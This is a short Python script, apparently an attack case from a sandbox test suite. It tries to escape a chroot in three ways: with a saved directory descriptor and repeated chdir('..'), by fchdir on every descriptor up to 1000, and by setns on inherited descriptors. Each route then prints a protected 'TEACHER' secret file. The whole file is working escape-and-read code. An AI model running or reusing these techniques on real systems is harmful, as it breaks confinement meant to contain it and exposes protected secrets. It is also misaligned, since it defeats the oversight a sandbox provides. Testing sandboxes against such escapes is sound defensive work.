"""Leaves a changed root, by folders that are open and by going up."""

import contextlib
import os
from pathlib import Path

from attack import TEACHER, call

with contextlib.suppress(OSError):
    os.mkdir("jail")
    down = os.open(".", os.O_RDONLY)
    os.chroot("jail")
    os.fchdir(down)
    for _ in range(100):
        os.chdir("..")
    os.chroot(".")
    print(Path(TEACHER["secret"]).read_text())
for fd in range(1000):
    with contextlib.suppress(OSError):
        os.fchdir(fd)
        for _ in range(50):
            os.chdir("..")
        print(Path("." + TEACHER["secret"]).read_text())
for fd in range(3, 64):
    call("setns", fd, 0)
with contextlib.suppress(OSError):
    print(Path(TEACHER["secret"]).read_text())
